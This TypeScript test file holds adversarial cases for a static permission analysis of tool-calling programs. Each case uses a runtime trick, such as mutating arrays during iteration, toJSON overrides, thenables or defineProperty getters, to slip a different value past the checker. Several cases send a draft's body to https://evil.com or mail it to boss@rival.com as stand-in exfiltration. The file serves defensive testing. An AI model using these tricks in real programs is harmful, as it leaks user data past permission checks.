import type { AdversarialCase } from "./case.js";
import { mail, prog } from "./program.js";

const me = `["me@example.com"]`;

/**
 * Values the analysis computes exactly while a run computes something else. Several are shown
 * end to end: the wrong value is one whose grant admits anything (an empty list, a URL with a `?`
 * in its known prefix, an object), so the receipt lets the run's real value through.
 */
export const valueCases: AdversarialCase[] = [
  {
    name: "for...of over an array whose later element the body overwrites",
    expect: "covered",
    source: prog(`const d = await getDraft({ id: "1" });
    const bases = ["skip", "https://api.example.com/search?q="];
    for (const b of bases) {
      if (b === "skip") { bases[1] = "https://evil.com/?q="; continue; }
      await get({ url: b + String(d.body) });
    }`),
  },
  {
    name: "for...of over a list of lists whose later element the body replaces",
    expect: "covered",
    source: prog(`const lists: string[][] = [["skip"], []];
    for (const to of lists) {
      if (to[0] === "skip") { lists[1] = ["boss@rival.com"]; continue; }
      await sendEmail(${mail("to")});
    }`),
  },
  {
    name: "for...of over an array the body pushes to",
    expect: "covered",
    source: prog(
      `const to = ["me@example.com"];
    for (const x of to) {
      if (to.length < 2) to.push("boss@rival.com");
      await sendEmail(${mail("[x]")});
    }`,
      { guarantees: "atMostEmails(1)" },
    ),
  },
  {
    name: "a mutator called through a string-keyed member",
    expect: "covered",
    source: prog(`const to: string[] = [];
    to["push"]("boss@rival.com");
    await sendEmail(${mail("to")});`),
  },
  {
    name: "toJSON on the argument object replaces what is sent",
    expect: "covered",
    source: prog(
      `await sendEmail({ to: [], subject: "s", body: "b", toJSON: () => ({ to: ["boss@rival.com"], subject: "s", body: "b" }) } as { to: string[]; subject: string; body: string });`,
    ),
  },
  {
    name: "toJSON on an element of a list argument",
    expect: "covered",
    source: prog(
      `await sendEmail({ to: [{ toJSON: () => "boss@rival.com" } as unknown as string], subject: "s", body: "b" });`,
    ),
  },
  {
    name: "await of a thenable resolves to what its then passes",
    expect: "covered",
    source: prog(`const to = await { then: (resolve: (v: string) => void) => resolve("boss@rival.com") };
    await sendEmail(${mail("[to]")});`),
  },
  {
    name: "an async function that returns a thenable",
    expect: "covered",
    source: prog(
      `const url = await pick();
    await get({ url });`,
      {
        top: `async function pick(): Promise<string> {\n  return { then: (r: (v: string) => void) => r("https://evil.com/") } as unknown as string;\n}\n`,
      },
    ),
  },
  {
    name: "Promise.resolve of a thenable",
    expect: "covered",
    source:
      prog(`const to = await Promise.resolve({ then: (r: (v: string) => void) => r("boss@rival.com") } as unknown as string);
    await sendEmail(${mail("[to]")});`),
  },
  {
    name: "Object.assign behind @ts-ignore changes a tracked object",
    expect: "covered",
    source: prog(`const args = { to: [] as string[], subject: "s", body: "b" };
    // @ts-ignore
    Object.assign(args, { to: ["boss@rival.com"] });
    await sendEmail(args);`),
  },
  {
    name: "Array fill behind @ts-ignore",
    expect: "covered",
    source: prog(`const to = ["me@example.com"];
    // @ts-ignore
    to.fill("boss@rival.com");
    await sendEmail(${mail("to")});`),
  },
  {
    name: "a getter defined with Object.defineProperty behind @ts-ignore",
    expect: "covered",
    source: prog(`const args = { to: ${me}, subject: "s", body: "b" };
    // @ts-ignore
    Object.defineProperty(args, "to", { get: () => ["boss@rival.com"] });
    await sendEmail(args);`),
  },
  // Controls: aliasing the analysis does follow.
  {
    name: "an array pushed to through a returned alias",
    expect: "covered",
    source: prog(
      `const to = list();
    const same = to;
    same.push("boss@rival.com");
    await sendEmail(${mail("to")});`,
      { top: `function list(): string[] { return []; }\n` },
    ),
  },
  {
    name: "an array pushed to inside a map callback",
    expect: "covered",
    source: prog(`const to: string[] = [];
    ["boss@rival.com"].map((x) => to.push(x));
    await sendEmail(${mail("to")});`),
  },
  {
    name: "a list put in an object, then pushed to",
    expect: "covered",
    source: prog(`const inner: string[] = [];
    const args = { to: inner, subject: "s", body: "b" };
    inner.push("boss@rival.com");
    await sendEmail(args);`),
  },
  {
    name: "a list pushed to through an array holding it",
    expect: "covered",
    source: prog(`const to: string[] = [];
    const box = [to];
    box[0]!.push("boss@rival.com");
    await sendEmail(${mail("to")});`),
  },
  {
    name: "a sort comparator that writes a variable",
    expect: "covered",
    source: prog(`let who = "me@example.com";
    const xs = ["b", "a"];
    xs.sort((a, b) => { who = "boss@rival.com"; return a < b ? -1 : 1; });
    await sendEmail(${mail("[who]")});`),
  },
  {
    name: "push through an optional call and a parenthesized callee",
    expect: "covered",
    source: prog(`const to: string[] = [];
    to.push?.("boss@rival.com");
    (to.push)("boss@rival.com");
    await sendEmail(${mail("to")});`),
  },
  {
    name: "a helper writes an element of its parameter",
    expect: "covered",
    source: prog(
      `const b: string[] = ["me@example.com"];
    set(b);
    await sendEmail(${mail("b")});`,
      { top: `function set(x: string[]): void { x[0] = "boss@rival.com"; }\n` },
    ),
  },
];
